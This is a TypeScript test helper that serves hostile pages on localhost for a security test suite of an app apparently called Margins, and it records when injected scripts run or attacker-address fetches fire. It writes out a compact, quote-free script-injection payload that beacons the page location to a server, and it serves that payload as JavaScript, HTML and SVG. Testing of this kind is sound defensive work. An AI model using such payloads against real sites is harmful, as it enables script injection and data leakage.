/**
 * Serves tests/hostile/pages/*.html on 127.0.0.1 at a random port, expanding their placeholders,
 * and records every request a payload makes: `/pwned/Pnn` (a script ran) and `/exfil/Pnn…` (a
 * stylesheet or image fetched an attacker address). Each hit is tagged with the phase the suite
 * was in when it arrived, so a hit from the live page (its own scripts, expected) is told apart
 * from one that came from Margins' popup or reader.
 */
import { readFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';

export const PAGES_DIR = join(import.meta.dirname, 'pages');

export interface Hit {
  kind: 'pwned' | 'exfil';
  id: string;
  path: string;
  /** For /pwned: the `location.href` of the context that ran the payload. */
  at: string;
  referer: string;
  origin: string;
  phase: string;
}

export interface HostileServer {
  origin: string;
  url(page: string): string;
  /** Tags the hits that arrive from now on. */
  setPhase(phase: string): void;
  hits: Hit[];
  /** Every request, for the odd-things report. */
  requests: string[];
  /** A page's HTML with its placeholders expanded, as served. */
  render(file: string): Promise<string>;
  close(): Promise<void>;
}

/** The code a script payload runs: it tells the server, then the flag the suite reads. */
export function pwnCode(origin: string, id: string): string {
  // No quotes of either kind, no spaces and no semicolons, so it fits any attribute or URL.
  return (
    `(function(){try{fetch(\`${origin}/pwned/${id}?\`+encodeURIComponent(location.href))}catch(e){}` +
    `try{top.__pwned=(top.__pwned||[]).concat(\`${id}\`)}catch(e){}})()`
  );
}

const PNG_1X1 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);
const PAGE = /^\/([\w.-]+\.html)$/;
const PAYLOAD_ID = /^P\d{2}$/;

function header(req: IncomingMessage, name: string): string {
  const value = req.headers[name];
  return Array.isArray(value) ? value.join(', ') : (value ?? '');
}

export async function startHostileServer(): Promise<HostileServer> {
  let phase = 'idle';
  const hits: Hit[] = [];
  const requests: string[] = [];
  let origin = '';

  const render = async (file: string): Promise<string> => {
    const source = await readFile(join(PAGES_DIR, file), 'utf8');
    return source
      .replace(/HUGE\((\d+)\)/g, (_, size: string) => 'margins '.repeat(Number(size) / 8))
      .replace(/PWN\((P\d{2})\)/g, (_, id: string) => pwnCode(origin, id))
      .replaceAll('@ORIGIN@', origin);
  };

  const server: Server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://localhost');
    const path = url.pathname;
    requests.push(`${phase} ${req.method ?? ''} ${path}${url.search.slice(0, 120)}`);
    const record = (kind: Hit['kind'], id: string) =>
      hits.push({
        kind,
        id,
        path,
        at: decodeURIComponent(url.search.slice(1)),
        referer: header(req, 'referer'),
        origin: header(req, 'origin'),
        phase,
      });
    const cors = { 'access-control-allow-origin': '*', 'cache-control': 'no-store' };

    if (path.startsWith('/pwned/')) {
      record('pwned', path.slice('/pwned/'.length, '/pwned/'.length + 3));
      res.writeHead(204, cors).end();
      return;
    }
    if (path.startsWith('/exfil/')) {
      record('exfil', path.slice('/exfil/'.length, '/exfil/'.length + 3));
      if (path.endsWith('.css'))
        res.writeHead(200, { ...cors, 'content-type': 'text/css' }).end('');
      else res.writeHead(200, { ...cors, 'content-type': 'image/png' }).end(PNG_1X1);
      return;
    }
    if (path.startsWith('/img/')) {
      res.writeHead(200, { 'content-type': 'image/png' }).end(PNG_1X1);
      return;
    }
    const id = url.searchParams.get('id') ?? '';
    if (PAYLOAD_ID.test(id)) {
      const code = pwnCode(origin, id);
      if (path === '/payload.js') {
        res.writeHead(200, { 'content-type': 'text/javascript' }).end(code);
        return;
      }
      if (path === '/payload.html') {
        res
          .writeHead(200, { 'content-type': 'text/html' })
          .end(`<!doctype html><p>frame</p><script>${code}</script>`);
        return;
      }
      if (path === '/payload.svg') {
        res
          .writeHead(200, { 'content-type': 'image/svg+xml' })
          .end(`<svg xmlns="http://www.w3.org/2000/svg"><script>${code}</script></svg>`);
        return;
      }
    }
    const name = PAGE.exec(path)?.[1];
    if (!name || req.method !== 'GET') {
      res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
      return;
    }
    render(name).then(
      (body) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body),
      () => res.writeHead(404, { 'content-type': 'text/plain' }).end('not found'),
    );
  });
  await new Promise<void>((ready, fail) => {
    server.once('error', fail);
    server.listen(0, '127.0.0.1', ready);
  });
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    url: (page) => `${origin}/${page}`,
    setPhase: (next) => (phase = next),
    hits,
    requests,
    render,
    close: () =>
      new Promise<void>((done, fail) => {
        server.closeAllConnections();
        server.close((error) => (error ? fail(error) : done()));
      }),
  };
}
